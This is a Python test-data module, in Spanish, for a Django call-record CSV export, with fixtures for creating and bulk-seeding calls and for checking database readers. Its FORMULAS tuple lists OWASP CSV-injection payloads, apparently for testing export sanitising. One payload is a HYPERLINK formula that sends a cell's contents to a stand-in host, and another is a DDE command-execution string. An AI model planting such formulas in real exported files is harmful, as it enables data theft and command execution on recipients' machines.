"""Datos para las pruebas."""

import time
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

from django.db import connection

from llamadas.models import Estado, Llamada
from usuarios.models import Usuario

CABECERA = (
    "llamada_id,numero_destino,estado,resultado,fecha_asignacion,fecha_conexion,"
    "fecha_finalizacion,duracion_segundos,usuario_email\r\n"
)

# OWASP, «CSV Injection», y los caracteres con que empieza una fórmula en alguna hoja de cálculo.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"pulse")',
    '=cmd|" /C calc"!A0',
    "+1+cmd",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "+",
    "-",
    "=",
    "@",
)


def finalizada(**campos: Any) -> Llamada:
    """Una llamada finalizada, con lo que se diga y lo demás corriente."""
    corriente = {
        "numero_destino": "+34600000000",
        "estado": Estado.FINALIZADA,
        "resultado": "contestada",
        "fecha_finalizacion": datetime(2026, 1, 31, 12, tzinfo=UTC),
        "duracion_segundos": 60,
    }
    return Llamada.objects.create(**{**corriente, **campos})


def sembrar(cuantas: int, estado: str = Estado.FINALIZADA, usuario: Usuario | None = None) -> None:
    """Añade muchas llamadas de golpe, sin pasar por el ORM."""
    with connection.cursor() as cursor:
        cursor.execute(
            """
            INSERT INTO llamadas_llamada
                (numero_destino, estado, resultado, fecha_finalizacion, usuario_id, duracion_segundos)
            WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < %s)
            SELECT '+34600' || (100000 + i), %s, 'contestada', %s, CAST(%s AS bigint), i FROM n
            """,
            [
                cuantas,
                estado,
                "2026-01-31 12:00:00+00" if connection.vendor == "postgresql" else "2026-01-31 12:00:00",
                usuario and usuario.pk,
            ],
        )


def sembrar_anchas(cuantas: int) -> None:
    """Cada una ocupa como cinco: llenan lo que hay entre el servidor y el cliente sin que haya que leer tantas."""
    sembrar(cuantas, usuario=Usuario.objects.create(email=f"{'largo' * 48}@example.com"))


OTRAS_TRANSACCIONES = (
    "FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid()"
    " AND backend_type = 'client backend' AND xact_start IS NOT NULL"
)


def nadie_lee() -> bool:
    """Si ninguna otra conexión tiene abierta una lectura de la base de datos."""
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute(f"SELECT COUNT(*) {OTRAS_TRANSACCIONES}")
            return cursor.fetchone()[0] == 0
        # Si no hay nada nuevo que volcar, o si se espera a quien lee, el volcado no dice si lo hay.
        primera = "(SELECT MIN(id) FROM llamadas_llamada)"
        cursor.execute(f"UPDATE llamadas_llamada SET duracion_segundos = duracion_segundos + 1 WHERE id = {primera}")
        cursor.execute("PRAGMA busy_timeout = 0")
        cursor.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        (ocupada, *_) = cursor.fetchone()
        cursor.execute("PRAGMA busy_timeout = 20000")
        return not ocupada


AL_IRSE = 30
"""Los segundos en que tiene que notarse que quien descargaba se ha ido: antes de los 60 en que se le daría por ido."""


def esperar(condicion: Callable[[], object], segundos: float = 60) -> None:
    """Vuelve en cuanto se cumple. Los `segundos` son para que una máquina ocupada no haga fallar lo que va bien."""
    limite = time.monotonic() + segundos
    while not condicion():
        assert time.monotonic() < limite, "no ha ocurrido a tiempo"
        time.sleep(0.05)
